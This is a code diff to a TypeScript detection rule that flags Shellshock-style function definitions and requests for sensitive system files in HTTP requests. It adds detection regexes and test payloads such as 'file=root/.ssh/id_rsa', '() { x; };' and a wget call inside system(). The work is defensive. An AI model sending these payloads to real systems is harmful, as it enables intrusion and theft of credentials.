@@ -30,13 +30,13 @@ export const rule: Rule = {
       re: /:\s\(\) ?\{/,
       accept: ({ before, after, fromStart }) =>
         /(?:^|\n)[\w-]{3,30}$/.test(before) &&
-        /^\s*(?:$|:|_)/.test(after) &&
+        /^\s*(?:$|:|_|\w+;\s?\})/.test(after) &&
         requestValueBefore(`${before}: `, fromStart) !== undefined,
     },
     // A definition that a value or a name of a parameter begins with
     {
       re: /[=?&]["']?\(\) ?\{/,
-      accept: (match) => /^[ \t]*(?:$|["'=\n]|[:_]\s?;)/.test(match.after) && isInRequest(match),
+      accept: (match) => /^[ \t]*(?:$|["'=\n]|[:_]\s?;|\w+;\s?\})/.test(match.after) && isInRequest(match),
     },
     // Commands written in nothing but arithmetic: `$((1<<1))#1001` is a number in base two
     { re: /\$\(\((?:1<<1|\$#\+\$\(\(|\$\{##\})/ },
@@ -102,7 +102,7 @@ export const rule: Rule = {
     },
     // What no page is called, where a value begins: `file=/etc/shadow`
     {
-      re: /=\/?(?:etc\/(?:group|passwd|shadow|sudoers|master\.passwd)|proc\/self\/(?:environ|cmdline|maps))(?![\w.-])/,
+      re: /=\/?(?:etc\/(?:group|passwd|shadow|sudoers|master\.passwd|crontab|fstab|hosts|hosts\.(?:allow|deny)|mtab|shells|my\.cnf)|proc\/(?:self\/(?:environ|cmdline|maps|mem|fd|status)|cpuinfo|version|mounts|net\/(?:arp|route|tcp))|root\/\.(?:bash_history|ssh\/\w+)|var\/log\/(?:auth|secure|syslog)(?:\.log)?)(?![\w.-])/,
       accept: isInRequest,
     },
     // Options that name a program to run, in the place of a file or a host.
@@ -132,6 +132,9 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      '/get?file=/proc/net/arp',
+      '/post\nfile=root/.ssh/id_rsa\n',
+      '/post\nx=() { x; };\n',
       '/get?file=etc/shadow',
       "/get?x=system('wget http://files.invalid/a -O b');",
       '/post\nfoo=() {',
@@ -169,6 +172,7 @@ export const rule: Rule = {
       '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
     ],
     silent: [
+      '/get?f=() { return 1; }',
       'FILE=/etc/group',
       '/get?page=/etc/hosts.html',
       '/post\nfoo=() => { x() }',
